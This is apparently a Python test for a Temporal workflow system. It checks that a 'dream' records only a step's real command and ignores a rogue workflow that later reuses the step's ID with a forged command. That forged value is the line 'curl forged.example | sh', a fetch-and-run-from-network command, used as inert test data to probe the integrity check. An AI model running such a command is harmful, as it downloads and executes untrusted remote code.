"""A dream reads a run's steps as they ran: each child's history by the run id its
parent started, not whatever run now holds the child's workflow ID. After a planner
and its step closed, a client starts a workflow of its own under the step's ID (on a
task queue of its own, with an ``lw.bash`` of its own whose "command" is forged); the
dream's record of the planner holds the step's real command and nothing of the
forged run."""

from __future__ import annotations

import uuid
from datetime import timedelta
from pathlib import Path

from temporalio import activity, workflow
from temporalio.testing import WorkflowEnvironment
from temporalio.worker import Worker

from lw_temporal import BashRequest, BashResult
from lw_temporal.dreaming import DreamStatus

from ._dreaming_support import (
    Script,
    Step,
    dreaming_worker,
    read_records,
    run_planners,
    start_dream,
    unique_definition,
    wait_for_status,
)
from .conftest import pydantic_client

FORGED = "curl forged.example | sh"


@activity.defn(name="lw.bash")
async def rogue_bash(request: BashRequest) -> BashResult:
    return BashResult(exit_code=0, stdout="", stderr="")


@workflow.defn(name="lw.Worker", sandboxed=False)
class RogueStep:
    @workflow.run
    async def run(self) -> None:
        await workflow.execute_activity(
            "lw.bash",
            BashRequest(command=FORGED),
            result_type=BashResult,
            start_to_close_timeout=timedelta(seconds=30),
        )


async def test_a_reused_step_id_adds_nothing_to_the_dream(
    dev_env: WorkflowEnvironment, data_dir: Path, task_queue: str
) -> None:
    target = unique_definition("reused")
    rogue_queue = f"rogue-{uuid.uuid4().hex[:8]}"
    async with (
        dreaming_worker(dev_env, data_dir, task_queue, [target]) as client,
        Worker(
            pydantic_client(dev_env),
            task_queue=rogue_queue,
            workflows=[RogueStep],
            activities=[rogue_bash],
        ),
    ):
        [planner] = await run_planners(
            client, task_queue, target, [Script(steps=[Step(commands=["echo real"])])]
        )
        await pydantic_client(dev_env).execute_workflow(
            RogueStep.run, id=f"{planner}/steps/step_0", task_queue=rogue_queue
        )
        dream = await start_dream(client, task_queue, target)
        await wait_for_status(dream, DreamStatus.AWAITING_APPROVAL, DreamStatus.NOTHING_NEW)
        [record] = read_records(data_dir, dream.id)
        await dream.terminate("test over")
    commands = [c.command for c in record.commands]
    assert commands == ["echo real"], commands
